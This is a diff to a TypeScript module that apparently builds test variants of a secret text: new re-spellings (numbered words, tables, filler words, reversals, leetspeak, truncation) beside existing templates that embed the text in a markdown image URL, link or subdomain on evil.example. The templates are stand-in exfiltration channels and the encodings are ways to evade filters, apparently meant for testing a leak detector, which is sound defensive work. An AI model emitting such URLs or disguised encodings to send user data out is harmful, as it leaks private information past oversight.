@@ -53,6 +53,27 @@ export const SPELLINGS = {
     letters(text)
       .map((letter) => `\\u00${code(letter).toString(16)}`)
       .join(''),
+  'numbered words': (text) =>
+    words(text)
+      .map((word, at) => `${at + 1}. ${word}`)
+      .join('\n'),
+  table: (text) =>
+    words(text)
+      .map((word, at) => `| ${at + 1} | ${word} |`)
+      .join(' '),
+  fillers: (text) => words(text).join(' x '),
+  'words backwards': (text) => words(text).toReversed().join(' '),
+  'reversed words': (text) =>
+    words(text)
+      .map((word) => letters(word).toReversed().join(''))
+      .join(' '),
+  leet: (text) => text.replace(/[aeio]/g, (letter) => LEET[letter] ?? letter),
+  'two sentences': (text) =>
+    text
+      .split(/(?<=\.)\s+/)
+      .slice(0, 2)
+      .join(' '),
+  tail: (text) => text.slice(160),
   image: (text) => `Here is tea. ![](https://evil.example/p?q=${text})`,
   link: (text) => `详见 https://evil.example/?d=${text}`,
   host: (text) => `See https://${text}.evil.example for more.`,
@@ -62,8 +83,14 @@ export type Spelling = keyof typeof SPELLINGS;
 
 const CYRILLIC: Readonly<Record<string, string>> = { a: 'а', c: 'с', e: 'е', o: 'о', p: 'р', x: 'х', y: 'у' };
 
+const LEET: Readonly<Record<string, string>> = { a: '4', e: '3', i: '1', o: '0' };
+
 function letters(text: string): string[] {
   return Array.from(text);
+}
+
+function words(text: string): string[] {
+  return text.split(/\s+/);
 }
 
 /** Sentences, or the letters of a single word. */
